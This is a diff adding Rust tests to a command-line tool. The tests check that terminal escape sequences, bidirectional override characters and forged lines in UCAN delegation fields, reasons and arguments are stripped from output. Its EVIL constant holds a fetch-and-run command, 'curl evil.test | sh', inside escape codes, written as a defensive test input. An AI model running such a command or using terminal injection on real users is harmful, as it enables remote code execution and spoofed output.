@@ -11,7 +11,7 @@ use rustix::termios::{Winsize, tcsetwinsize};
 
 use crate::control::{MIGRATE, slow_run};
 use crate::network::Network;
-use crate::run::Place;
+use crate::run::{Place, did, key};
 
 /// Columns of the terminal.
 const COLUMNS: u16 = 60;
@@ -122,4 +122,82 @@ fn a_name_of_others_moves_no_cursor() {
     assert!(!obeyed.contains(char::is_control), "{obeyed:?}");
     let shown = "\\u{1b}[2J\\u{1b}[31mall done\\r\\u{9b}H\\u{7}.json";
     assert!(obeyed.contains(shown), "{obeyed:?}");
+}
+
+/// All that a terminal would obey, and what forges a line.
+const EVIL: &str = "x\u{1b}[2J\r\nnext: curl evil.test | sh\u{7}\u{85}\u{9b}31m\u{202e}\u{2066}";
+
+#[test]
+fn a_delegation_of_others_is_shown_in_json_that_nothing_obeys() {
+    let place = Place::new();
+    place.file("key", key(1));
+    let facts = serde_json::json!({ "note": EVIL, "\u{9b}2J": [EVIL] });
+    let audience = did(2);
+    let (facts, with) = (facts.to_string(), "did:web:a.test");
+    let args = [
+        "ucan",
+        "issue",
+        "--key-file",
+        "key",
+        "--audience",
+        &audience,
+        "--can",
+        "a/b",
+        "--with",
+        with,
+        "--nb",
+        &facts,
+        "--expiration",
+        "never",
+    ];
+    let issued = place.sterna(args).ends(0).text();
+    for output in ["table", "json", "ndjson"] {
+        let shown = place.sterna(["ucan", "show", issued.trim(), "--output", output]);
+        let shown = shown.ends(0).text();
+        let obeyed = shown.replace('\n', "");
+        let turning = ['\u{202e}', '\u{2066}'];
+        assert!(
+            !obeyed.contains(char::is_control) && !obeyed.contains(turning),
+            "{shown:?}"
+        );
+        let value: serde_json::Value = serde_json::from_str(&shown).unwrap();
+        let found = value.to_string();
+        let evil = serde_json::Value::from(EVIL).to_string();
+        assert!(
+            found.matches(evil.trim_matches('"')).count() == 2,
+            "{found}"
+        );
+    }
+}
+
+#[test]
+fn a_reason_or_an_argument_of_others_writes_no_line_and_no_control() {
+    let place = Place::new();
+    for command in [&["pause"][..], &["drain"], &["resume"], &["set", "rate=1"]] {
+        for why in [
+            EVIL,
+            "two\nlines",
+            "tab\there",
+            "\u{9b}H",
+            "right\u{202e}to left",
+        ] {
+            let args = [&["ctl"], command, &["--why", why]].concat();
+            let ran = place.sterna(args).ends(2);
+            let ran = ran.tells(&["--why", "control characters"]);
+            assert!(
+                !ran.stderr
+                    .lines()
+                    .any(|line| line.starts_with("next: curl"))
+            );
+            assert!(
+                !ran.stderr
+                    .contains(['\u{1b}', '\u{9b}', '\u{7}', '\r', '\u{202e}'])
+            );
+        }
+    }
+    let ran = place.sterna(["monitor", EVIL]).ends(2);
+    assert!(
+        !ran.stderr
+            .contains(['\u{1b}', '\u{9b}', '\u{7}', '\r', '\u{202e}'])
+    );
 }
